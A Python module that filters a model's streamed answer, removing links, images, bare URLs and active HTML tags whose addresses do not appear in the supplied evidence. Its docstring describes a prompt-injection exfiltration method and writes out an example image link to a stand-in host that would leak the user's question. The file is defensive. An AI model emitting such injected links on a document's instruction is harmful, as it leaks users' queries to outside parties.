"""Takes out of an answer, as it streams, every link, picture and active tag that doesn't come from its evidence.

A document may tell the model to write `![](https://elsewhere/?q=…)`: whoever shows the answer would then fetch it, and
tell a stranger what was asked. A link stays when the evidence or the question has the very same address.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

_LONGEST: Final = 2_000  # characters of an unfinished address or tag that are held back

_LINK = re.compile(r"(?P<image>!?)\[(?P<label>[^\[\]\n]{0,300})\]\((?P<address>[^()\n]{0,2000})\)")
_ADDRESS = r"[^\s<>\"'“”‘’，。；：！？、）】」]"
_AT_FIRST = r"(?<![A-Za-z0-9])"  # not \b: a Chinese character is a letter too
_BARE = re.compile(rf"{_AT_FIRST}(?:https?://|www\.){_ADDRESS}{{1,{_LONGEST}}}", re.IGNORECASE)
_TAG = re.compile(
    r"</?(?:a|img|iframe|script|style|link|meta|object|embed|video|audio|source|svg|form|input|button|base)\b[^<>\n]{0,2000}>",
    re.IGNORECASE,
)
# The end of the text so far that may still become one of these.
_OPEN = re.compile(
    rf"(?:!|!?\[[^\[\]\n]{{0,300}}(?:\](?:\([^()\n]{{0,{_LONGEST}}})?)?|</?|</?[a-zA-Z][^<>\n]{{0,{_LONGEST}}}"
    rf"|{_AT_FIRST}(?:h|ht|htt|https?|https?:/{{0,2}}|https?://{_ADDRESS}{{0,{_LONGEST}}}"
    rf"|w{{1,3}}|www\.{_ADDRESS}{{0,{_LONGEST}}}))\Z",
    re.IGNORECASE,
)
_TRAILING: Final = ".,;:!?)]}*_'\"…"


def _finished(text: str) -> int:
    """The position up to which later text can't change the meaning: an address inside a finished link is finished."""
    whole = [found.span() for found in (*_LINK.finditer(text), *_TAG.finditer(text))]
    at = 0
    while found := _OPEN.search(text, at):
        around = [end for start, end in whole if start < found.start() < end]
        if not around:
            return found.start()
        at = max(around)
    return len(text)


class LinkFilter:
    """Takes text piece by piece and returns what may be shown. `removed` counts what was taken out."""

    def __init__(self, allowed: Iterable[str]) -> None:
        """`allowed`: texts whose addresses may stand in the answer."""
        self._allowed = "\n".join(allowed)
        self._held = ""
        self.removed = 0

    def feed(self, text: str) -> str:
        self._held += text
        cut = _finished(self._held)
        done, self._held = self._held[:cut], self._held[cut:]
        return self._clean(done)

    def end(self) -> str:
        rest, self._held = self._held, ""
        return self._clean(rest)

    def _clean(self, text: str) -> str:
        if not text:
            return text
        text = _LINK.sub(self._link, text)
        text = _TAG.sub(self._tag, text)
        return _BARE.sub(self._bare, text)

    def _link(self, found: re.Match[str]) -> str:
        if self._known(found["address"].split(maxsplit=1)[0] if found["address"].strip() else ""):
            return found.group()
        self.removed += 1
        return "" if found["image"] else found["label"]

    def _tag(self, found: re.Match[str]) -> str:
        self.removed += 1
        return ""

    def _bare(self, found: re.Match[str]) -> str:
        address = found.group().rstrip(_TRAILING)
        if self._known(address):
            return found.group()
        self.removed += 1
        return found.group()[len(address) :]

    def _known(self, address: str) -> bool:
        return bool(address) and address in self._allowed
